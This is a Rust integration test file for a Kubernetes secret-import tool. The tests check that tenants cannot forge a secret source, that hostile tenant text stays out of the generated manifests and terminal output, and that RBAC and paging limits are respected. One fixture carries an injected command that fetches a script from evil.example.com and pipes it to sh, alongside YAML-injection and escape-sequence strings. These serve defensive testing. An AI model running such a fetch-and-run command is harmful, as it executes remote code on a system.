//! Who would profit from what an administrator applies unread.

use serde_json::json;

use super::desk::{CANARY, Desk, pull_data};
use crate::support::Result;

const REFLECTS: &str = "reflector.v1.k8s.emberstack.com/reflects";

/// A tenant has the value, as everybody has, and can write what it wants in `evil` and `evil2`.
#[tokio::test]
async fn a_tenant_makes_its_secret_the_source_of_nobody_elses() -> Result<()> {
    let desk = Desk::new(&["evil", "platform", "a", "b", "evil2"]).await?;
    desk.pull("evil/reg", "r.example.com", json!({})).await?;
    for place in ["platform/reg", "a/reg", "b/reg"] {
        desk.pull(place, "r.example.com", json!({})).await?;
    }
    let forged = json!({"annotations": {REFLECTS: "evil/reg"}});
    desk.pull("evil2/reg", "r.example.com", forged).await?;
    let answer = desk.import(&["-o", "json"]).await?;
    assert_eq!(answer.code, 3, "the others are left, and told: {}", answer.err);
    let items = answer.json()?["items"].as_array().cloned().unwrap_or_default();
    let policies: Vec<_> = items.iter().filter(|item| item["kind"] == "DistributionPolicy").collect();
    assert_eq!(policies[0]["spec"]["to"]["namespaces"]["names"], json!(["evil2"]), "{policies:?}");
    for item in items.iter().filter(|item| item["kind"] == "Secret") {
        assert_eq!(item["metadata"]["namespace"], "evil2");
    }
    assert!(answer.err.contains("NoSource") && answer.err.contains("namespace 'evil'"), "{}", answer.err);

    // Where the administrator says whose it is, a mark counts no more.
    let answer = desk.import(&["--source-namespace", "platform", "--exclude", "evil2", "-o", "json"]).await?;
    let items = answer.json()?["items"].as_array().cloned().unwrap_or_default();
    let policy = items.iter().find(|item| item["kind"] == "DistributionPolicy").cloned().unwrap_or_default();
    assert_eq!(policy["spec"]["from"]["namespaces"]["names"], json!(["platform"]));
    assert_eq!(policy["spec"]["to"]["namespaces"]["names"], json!(["a", "b", "evil"]));
    Ok(())
}

#[tokio::test]
async fn text_of_tenants_reaches_neither_the_manifests_nor_the_terminal() -> Result<()> {
    let desk = Desk::new(&["platform", "a", "b", "shut"]).await?;
    let hostile =
        "platform/reg\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\u{1b}[2J";
    let owner = json!([{"apiVersion": "images.banzaicloud.io/v1alpha1", "kind": "ImagePullSecret",
        "name": "x; curl evil.example.com | sh #", "uid": "u"}]);
    desk.pull("platform/reg", "r.example.com", json!({})).await?;
    desk.pull(
        "a/reg",
        "r.example.com",
        json!({"annotations": {REFLECTS: hostile}, "ownerReferences": owner}),
    )
    .await?;
    // Keys that no credential can be for, some with a password in them.
    for (n, host) in ["*.example.com", "https://me:canary@r.example.com", "r.example.com\\n---\\nkind: X"]
        .iter()
        .enumerate()
    {
        for namespace in ["platform", "b"] {
            desk.pull(&format!("{namespace}/odd-{n}"), host, json!({})).await?;
        }
    }
    // Neither what belongs to others nor what is broken is printed.
    for namespace in ["platform", "b"] {
        let data = json!({".dockerconfigjson": "{\"auths\": {\"r.example.com\": {\"auth\": \"canary\"}}}"});
        desk.secret(&format!("{namespace}/broken"), "kubernetes.io/dockerconfigjson", data, json!({}))
            .await?;
        let release = json!({"release": CANARY});
        desk.secret(
            &format!("{namespace}/sh.helm.release.v1.x.v1"),
            "helm.sh/release.v1",
            release,
            json!({}),
        )
        .await?;
        let token = json!({"token": CANARY});
        desk.secret(&format!("{namespace}/opaque"), "Opaque", token, json!({})).await?;
    }
    desk.namespace("refusing", json!({"claviger.dev/opt-out": "true"})).await?;
    desk.pull("refusing/reg", "r.example.com", json!({})).await?;
    let answer = desk.import(&["--source-namespace", "platform"]).await?;
    for text in [&answer.out, &answer.err] {
        for word in
            ["ClusterRoleBinding", "evil.example.com", "\u{1b}", "kind: X", "opaque", "sh.helm.release"]
        {
            assert!(!text.contains(word), "{word}: {text}");
        }
    }
    for reason in ["NotACredential", "NamespaceRefuses"] {
        assert!(answer.err.contains(reason), "{reason}: {}", answer.err);
    }
    let documents: Vec<serde_json::Value> = serde_saphyr::from_multiple(&answer.out)?;
    let kinds: Vec<_> =
        documents.iter().map(|document| document["kind"].as_str().unwrap_or_default()).collect();
    let wanted = ["Secret", "Secret", "DistributionPolicy", "RegistryCredential", "RegistryCredential"];
    assert_eq!(kinds, wanted, "{}\n{}", answer.out, answer.err);
    desk.apply(&answer).await?;
    Ok(())
}

#[tokio::test]
async fn only_what_the_caller_may_read_is_read() -> Result<()> {
    let desk = Desk::new(&["platform", "a", "b"]).await?;
    for namespace in ["platform", "a", "b"] {
        desk.pull(&format!("{namespace}/reg"), "r.example.com", json!({})).await?;
    }
    let nobody = desk.import(&["--as", "nobody"]).await?;
    assert_eq!((nobody.code, nobody.out.as_str()), (4, ""), "{nobody:?}");
    let rules = r#"
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: looker}
rules:
- {apiGroups: [""], resources: [secrets], verbs: [get, list]}
- {apiGroups: [claviger.dev], resources: ["*"], verbs: [get, list]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: namespaces}
rules:
- {apiGroups: [""], resources: [namespaces], verbs: [list]}
- {apiGroups: [claviger.dev], resources: [distributionpolicies], verbs: [list]}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: namespaces}
subjects: [{kind: User, name: jane, apiGroup: rbac.authorization.k8s.io}]
roleRef: {kind: ClusterRole, name: namespaces, apiGroup: rbac.authorization.k8s.io}
"#;
    let binding = |namespace: &str| {
        format!(
            "---\napiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {{name: looker, namespace: {namespace}}}\n\
             subjects: [{{kind: User, name: jane, apiGroup: rbac.authorization.k8s.io}}]\n\
             roleRef: {{kind: ClusterRole, name: looker, apiGroup: rbac.authorization.k8s.io}}\n"
        )
    };
    desk.kubectl(&["apply", "-f", "-"], &format!("{rules}{}{}", binding("platform"), binding("a"))).await?;
    let jane = desk.import(&["--source-namespace", "platform", "--as", "jane", "-o", "json"]).await?;
    assert_eq!(jane.code, 4, "{jane:?}");
    assert!(jane.err.contains("not in b") || jane.err.contains(", b,"), "{}", jane.err);
    let secrets: Vec<_> = jane.json()?["items"].as_array().cloned().unwrap_or_default();
    let places: Vec<_> = secrets
        .iter()
        .filter(|item| item["kind"] == "Secret")
        .map(|item| item["metadata"]["namespace"].clone())
        .collect();
    assert_eq!(places, ["a"]);
    Ok(())
}

/// Values are read page by page, and none is kept.
#[tokio::test]
async fn many_and_large_secrets_are_read_in_pages() -> Result<()> {
    let desk = Desk::new(&["platform", "a"]).await?;
    let large = "x".repeat(900_000);
    for n in 0..8 {
        let data = json!({"username": "robot", "password": CANARY, "large": large});
        desk.secret(&format!("a/large-{n}"), "kubernetes.io/basic-auth", data, json!({})).await?;
    }
    for n in 0..120 {
        let data = pull_data(&format!("r{n}.example.com"), CANARY);
        for namespace in ["platform", "a"] {
            let place = format!("{namespace}/reg-{n}");
            desk.secret(&place, "kubernetes.io/dockerconfigjson", data.clone(), json!({})).await?;
        }
    }
    let answer = desk.import(&["--source-namespace", "platform"]).await?;
    assert!(answer.err.contains("120 credentials take over 120 Secrets"), "{}", answer.err);
    assert!(answer.err.contains("NoSource"), "{}", answer.err);
    let pages = desk.lab.control_plane.audit_events()?;
    let lists = pages.iter().filter(|event| event.verb == "list" && event.resource == "secrets").count();
    assert!(lists >= 7, "{lists} lists");
    Ok(())
}
